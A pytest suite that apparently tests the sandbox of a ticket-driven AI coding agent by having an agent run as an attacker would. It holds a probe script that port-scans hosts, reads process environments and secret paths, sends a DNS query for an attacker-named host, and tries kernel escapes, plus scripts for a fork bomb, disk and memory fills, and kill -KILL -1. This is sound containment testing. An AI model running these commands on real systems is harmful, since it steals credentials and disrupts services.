"""Tickets whose agent does whatever an attacker says, by the whole way: Jira's webhook, consumer, runner, forge.

What one can try without harm, one run tries all at once, and leaves what it found in its branch; the others try to take
what the host has. More cases, and those of hostile repositories, are played without a host: app/tests/hostile_runs.
"""

import json
import re
import uuid
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import pytest
from wiring import addresses, network, port

from lab import journey
from lab.journey import Appliance
from lab.services.jira import payload

METADATA = "169.254.169.254"  # where clouds tell a machine its secrets
FRONTEND, BACKEND, AGENTS, EGRESS = (network(name) for name in ("frontend", "backend", "agents", "egress"))
(GATEWAY,) = ((address, port("app_llm_gateway_port")) for address in addresses("llm-gateway", "agents"))
UNTRUSTED = (f"{AGENTS}.1", port("untrusted_proxy_port"))
WEB = {port("nginx_http_port"), port("nginx_https_port")}
DATA = (port("mongodb_port"), port("rabbitmq_tls_port"))
PROXIES = (UNTRUSTED[1], port("trusted_proxy_port"))
SERVICES = [
    port(f"app_{name}_port")
    for name in ("jira_webhook_api", "configuration_api", "agent_runner", "llm_gateway", "metrics")
]
# What a run asks every address for: the appliance's own ports, and others that one would try.
PORTS = sorted({22, 53, 80, 443, 2375, 5672, *WEB, *DATA, *PROXIES, *SERVICES})
PROJECT = "HOSTILE"
REPOSITORY = "/api/v1/repos/demo/shop"
SECONDS = 420
SHORTEST_SECRET = 8
RESTART_SECONDS = 90

SURVEY = r"""
import concurrent.futures, ctypes, glob, json, os, socket, struct, sys, urllib.error, urllib.request

base, token = os.environ["ANTHROPIC_BASE_URL"], os.environ["ANTHROPIC_AUTH_TOKEN"]
libc = ctypes.CDLL(None, use_errno=True)

def tried(call):
    try:
        return str(call() or "done")[:4000]
    except Exception as error:
        return "refused: " + (getattr(error, "strerror", None) or type(error).__name__)

def c(call, *arguments):
    if call(*arguments) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

def read(path):
    with open(path, "rb") as file:
        return file.read(100_000).decode(errors="replace") or "(empty)"

def write(path):
    with open(path, "w") as file:
        file.write("1")

def reach(target):
    try:
        socket.create_connection(tuple(target), timeout=1).close()
    except ConnectionRefusedError:
        return True
    except OSError:
        return False
    return True

def question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)

def ask(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(2)
        client.sendto(question("stolen.attacker.example"), (server, 53))
        answer = client.recv(512)
        return "answered" if answer[3] & 15 == 0 and answer[6:8] != b"\0\0" else "refused: by the name server"

def through(destination):
    proxy = os.environ.get("HTTPS_PROXY", "").rpartition("//")[2].partition(":")
    with socket.create_connection((proxy[0], int(proxy[2])), timeout=5) as connection:
        connection.sendall(f"CONNECT {destination} HTTP/1.1\r\nHost: {destination}\r\n\r\n".encode())
        return connection.recv(64).split()[1].decode()

def gateway(path, body=None, bearer=None):
    data = None if body is None else json.dumps(body).encode()
    headers = {"Authorization": "Bearer " + (bearer or token), "Content-Type": "application/json",
               "anthropic-version": "2023-06-01"}
    try:
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        return opener.open(urllib.request.Request(base + path, data=data, headers=headers), timeout=20).status
    except urllib.error.HTTPError as error:
        return error.code

targets = [tuple(target) for target in json.loads(os.environ["TARGETS"])]
ports = json.loads(os.environ["PORTS"])
numbers = [*range(1, 31), *range(100, 112), *range(150, 164), 254]
targets += [(f"{bridge}.{number}", port) for bridge in json.loads(os.environ["BRIDGES"])
            for number in numbers for port in ports]
targets = sorted(set(targets))
with concurrent.futures.ThreadPoolExecutor(160) as pool:
    answers = list(pool.map(reach, targets))

environments = {path: tried(lambda path=path: read(path)) for path in glob.glob("/proc/[0-9]*/environ")}
message = {"model": "claude-sonnet-5-5", "max_tokens": 10, "messages": [{"role": "user", "content": "hello"}]}
web = {"type": "web_search_20250305", "name": "web_search"}
picture = [{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": "http://169.254.169.254/"}}]}]
found = {
    "own address": socket.gethostbyname(socket.gethostname()),
    "reached": [target for target, answer in zip(targets, answers) if answer],
    "asked": len(targets),
    "names": {name: tried(lambda name=name: socket.gethostbyname(name))
              for name in ("gitea.lab", "attacker.example", "stolen.attacker.example", "metadata.google.internal")},
    "name servers": {server: tried(lambda server=server: ask(server))
                     for server in ("127.0.0.11", *(f"{bridge}.1" for bridge in json.loads(os.environ["BRIDGES"])))},
    "through the proxy": {destination: tried(lambda destination=destination: through(destination))
                          for destination in ("gitea.lab:443", "claude.lab:443", "169.254.169.254:80", "127.0.0.1:22")},
    "environments": environments,
    "process 1": {name: tried(lambda name=name: read(f"/proc/1/{name}")) for name in ("environ", "mem", "maps")},
    "secrets": {path: tried(lambda path=path: os.listdir(path)) for path in
                ("/run/secrets", "/etc/sdlc-agents", "/var/lib/docker", "/root", "/var/run/docker.sock")},
    "mounts": tried(lambda: read("/proc/self/mountinfo")),
    "denied": {
        "write to the kernel's settings": tried(lambda: write("/proc/sys/kernel/core_pattern")),
        "write to the kernel's trigger": tried(lambda: write("/proc/sysrq-trigger")),
        "write to the image": tried(lambda: write("/usr/local/bin/x")),
        "write to a control group": tried(lambda: write("/sys/fs/cgroup/cgroup.procs")),
        "mount": tried(lambda: c(libc.mount, b"none", b"/tmp", b"tmpfs", 0, None)),
        "raw socket": tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and "made"),
        "packet socket": tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW) and "made"),
        "device": tried(lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0))),
        "trace the runner": tried(lambda: c(libc.ptrace, 16, 1, 0, 0)),
        "become root": tried(lambda: os.setuid(0)),
        "another root": tried(lambda: os.chroot("/tmp")),
        "namespace of users": tried(lambda: c(libc.unshare, 0x10000000)),
        "module": tried(lambda: c(libc.init_module, b"x", 1, b"")) if hasattr(libc, "init_module") else "refused: none",
    },
    "gateway": {
        "files": gateway("/v1/files"),
        "keys": gateway("/v1/organizations/api_keys"),
        "metrics": gateway("/metrics"),
        "another token": gateway("/v1/messages", message, "sdlc-job-" + "A" * 43),
        "unknown model": gateway("/v1/messages", {**message, "model": "gpt-9"}),
        "the provider's search": gateway("/v1/messages", {**message, "tools": [web]}),
        "picture by address": gateway("/v1/messages", {**message, "messages": picture}),
    },
    "token": token,
}
json.dump(found, open("survey.json", "w"))
print(len(targets), "asked,", sum(answers), "reached")
"""

FORK_BOMB = "bomb() { bomb | bomb & }; bomb >/dev/null 2>&1; sleep 5; echo survived > survived.txt"
MEMORY_FILL = """python3 - <<'END'
kept = []
while True:
    kept.append(b"x" * (64 << 20))
END
echo survived > survived.txt"""
DISK_FILL = "cat /dev/zero > $HOME/fill; ls -l $HOME/fill; echo survived > survived.txt"
KILL_ALL = "echo survived > survived.txt; kill -KILL -1"


@dataclass(frozen=True)
class Run:
    """An ended run: its development, and the forge's references before and after."""

    key: str
    development: Mapping[str, Any]
    before: Mapping[str, str]
    after: Mapping[str, str]


def references() -> dict[str, str]:
    """Every reference of the repository in the lab's Gitea."""
    answer = journey.gitea(f"{REPOSITORY}/git/refs")
    assert answer.status == 200, answer.body
    return {entry["ref"]: entry["object"]["sha"] for entry in json.loads(answer.body)}


def changed(run: Run) -> set[str]:
    """The references that differ, without those that the forge keeps of pull requests."""
    names = run.before.keys() | run.after.keys()
    differing = {name for name in names if run.before.get(name) != run.after.get(name)}
    return {name for name in differing if not re.fullmatch(r"refs/pull/\d+/(head|merge)", name)}


@pytest.fixture(scope="module")
def registered(appliance: Appliance) -> Appliance:
    """The appliance, with a project whose repository is the shop."""
    appliance.register(PROJECT)
    return appliance


Play = Callable[[str], Run]


@pytest.fixture(scope="module")
def play(registered: Appliance) -> Play:
    """`play(script)`: a ticket whose agent runs the script, to its end."""

    def run(script: str) -> Run:
        before = references()
        development = registered.work(PROJECT, "A hostile ticket", script, SECONDS)
        return Run(development["jira_issue_key"], development, before, references())

    return run


@dataclass(frozen=True)
class Survey:
    """What a run found when it tried everything, as text and read."""

    run: Run
    text: str
    found: Mapping[str, Any]


@pytest.fixture(scope="module")
def targets(host: Any, lab: Any) -> Iterator[list[tuple[str, int]]]:
    """What the host listens on under its addresses, the metadata address among them, and the machines around it.

    The survey adds every container's address, and those where none is.
    """
    host.check_output(f"ip address replace {METADATA}/32 dev lo")
    try:
        lines = host.check_output("ss --listening --tcp --numeric --no-header").splitlines()
        ports = {int(line.split()[3].rsplit(":", 1)[1]) for line in lines}
        assert {22, port("nginx_https_port"), *PROXIES, DATA[0]} <= ports
        found = {(address, number) for address in (lab.address, METADATA) for number in ports | {80}}
        found |= {(lab.broker_address, number) for number in (22, DATA[1])}
        found |= {(lab.services, number) for number in (25, 443, 9200)}
        found |= {(lab.mirror, number) for number in (53, 80, 443)}
        yield sorted(found)
    finally:
        host.check_output(f"ip address del {METADATA}/32 dev lo")


@pytest.fixture(scope="module")
def survey(play: Play, targets: list[tuple[str, int]]) -> Survey:
    """One run that tries all that does no harm."""
    listed, bridges = json.dumps(targets), json.dumps([FRONTEND, BACKEND, AGENTS, EGRESS])
    script = f"TARGETS='{listed}' BRIDGES='{bridges}' PORTS='{PORTS}' python3 - <<'PROBE'\n{SURVEY}\nPROBE"
    run = play(script)
    assert run.development["status"] == "completed", run.development["error_message"]
    text = journey.branch_file(run.key, "survey.json").decode()
    return Survey(run, text, json.loads(text))


def test_a_scan_from_inside_a_run_finds_the_gateway_and_the_untrusted_proxy_only(survey: Survey) -> None:
    assert survey.found["asked"] > 3000
    found = {(address, number) for address, number in survey.found["reached"]}
    # Its own ports are a job's to reach, and no neighbour's (test_isolation).
    own = survey.found["own address"]
    assert own.startswith(f"{AGENTS}.")
    assert {target for target in found if target[0] != own} == {GATEWAY, UNTRUSTED}


def test_a_run_tells_the_outside_nothing_by_names_or_by_the_proxy(survey: Survey) -> None:
    for answers in (survey.found["names"], survey.found["name servers"]):
        assert {name: said for name, said in answers.items() if not said.startswith("refused")} == {}
    # What the site lets projects name asks for a token of a job that may; the rest is refused.
    listed = {"gitea.lab:443", "claude.lab:443"}
    through = survey.found["through the proxy"]
    assert through == {destination: "407" if destination in listed else "403" for destination in through}


def test_no_credential_of_the_appliance_is_readable_in_a_run(
    survey: Survey, secrets: Mapping[str, str], lab: Any
) -> None:
    known = {name: value.strip() for name, value in secrets.items() if len(value.strip()) >= SHORTEST_SECRET}
    known |= {name: lab.service_secret(name) for name in ("gitea_bot_token", "claude_api_key", "jira_token")}
    shown = survey.text + json.dumps(survey.run.development)
    assert [name for name, value in known.items() if value in shown] == []
    assert any("ANTHROPIC_AUTH_TOKEN" in text for text in survey.found["environments"].values()), "the check is blind"
    for answers in (survey.found["process 1"], survey.found["secrets"]):
        assert {name: said for name, said in answers.items() if not said.startswith("refused")} == {}
    assert "/run/secrets" not in survey.found["mounts"]
    # The one file of the host's: the authorities that are trusted.
    mounted = [line for line in survey.found["mounts"].splitlines() if "/etc/sdlc-agents" in line]
    assert all("/etc/sdlc-agents/secrets/trusted_ca_bundle.crt" in line for line in mounted)


def test_the_kernel_gives_a_run_nothing(survey: Survey) -> None:
    allowed = {name for name, said in survey.found["denied"].items() if not said.startswith("refused")}
    assert allowed == set()


def test_a_stolen_job_token_opens_nothing_else_and_nothing_after_the_run(host: Any, survey: Survey) -> None:
    gateway = survey.found["gateway"]
    assert {name: status for name, status in gateway.items() if not 400 <= status < 500} == {}
    body = {"model": "claude-sonnet-5-5", "max_tokens": 10, "messages": [{"role": "user", "content": "hello"}]}
    # The token is worthless by now, which is what is tested; curl reads it from standard input all the same.
    asked = (
        f"printf 'header = \"Authorization: Bearer %s\"' '{survey.found['token']}' | curl --silent --config - "
        f"--output /dev/null --write-out '%{{http_code}}' --header 'content-type: application/json' "
        f"--data '{json.dumps(body)}' http://{GATEWAY[0]}:{GATEWAY[1]}/v1/messages"
    )
    assert host.check_output(asked) in {"401", "403"}


def test_a_run_that_tries_everything_changes_its_own_branch_only(survey: Survey) -> None:
    assert changed(survey.run) == {f"refs/heads/feature/{survey.run.key}"}


def started(host: Any) -> Mapping[str, str]:
    """When each container that is no runner was started."""
    shown = host.check_output("docker inspect --format '{{.Name}} {{.State.StartedAt}}' $(docker ps --quiet)")
    lines = (line.split() for line in shown.splitlines())
    return {name.lstrip("/"): at for name, at in lines if "agent-runner" not in name}


@pytest.mark.alone
@pytest.mark.parametrize(
    "script",
    [
        pytest.param(FORK_BOMB, id="forks without an end"),
        pytest.param(MEMORY_FILL, id="fills the memory"),
        pytest.param(DISK_FILL, id="fills the disk"),
        pytest.param(KILL_ALL, id="kills all that it can"),
    ],
)
def test_a_run_that_takes_all_it_can_ends_in_bounds_and_costs_no_other_service_anything(
    host: Any, play: Play, eventually: Any, script: str
) -> None:
    before = started(host)
    run = play(script)
    assert run.development["status"] in {"completed", "failed"}
    branch = {f"refs/heads/feature/{run.key}"} if run.development["status"] == "completed" else set()
    assert changed(run) == branch
    assert started(host) == before

    def fresh() -> bool:
        shown = host.check_output("docker ps --filter name=agent-runner --format '{{.Names}} {{.Status}}'").splitlines()
        assert all(line.endswith("(healthy)") for line in shown)
        processes = [host.check_output(f"docker top {line.split()[0]} -eo pid,args").splitlines()[1:] for line in shown]
        # Each is the runner alone, or with Docker's question whether it lives.
        return bool(shown) and all("sdlc-agents" in process for listed in processes for process in listed)

    eventually(fresh, timeout=RESTART_SECONDS)


@pytest.mark.alone
def test_after_all_of_that_the_next_ticket_becomes_a_pull_request(registered: Appliance) -> None:
    key = f"{PROJECT}-{uuid.uuid4().hex[:8].upper()}"
    ticket = payload.Ticket(key, "Add a discount to the cart", "Customers with a voucher get ten percent off.")
    assert registered.send(ticket).status == 200
    development = registered.wait(key, SECONDS)
    assert development["status"] == "completed", development["error_message"]
    assert "discount" in journey.pull_request_diff(development["pr_mr_url"])


def test_no_log_of_a_container_tells_a_secret(host: Any, secrets: Mapping[str, str], survey: Survey) -> None:
    del survey  # its run is what the logs may tell of
    known = {name: value.strip() for name, value in secrets.items() if len(value.strip()) >= SHORTEST_SECRET}
    told = "".join(
        host.run(f"docker logs {name} 2>&1 | tail -c 20000000").stdout
        for name in host.check_output("docker ps --format '{{.Names}}'").split()
    )
    assert "development_ended" in told, "the check is blind"
    assert [name for name, value in known.items() if value in told] == []
    assert re.search(r"sdlc-job-[\w-]{20,}", told) is None
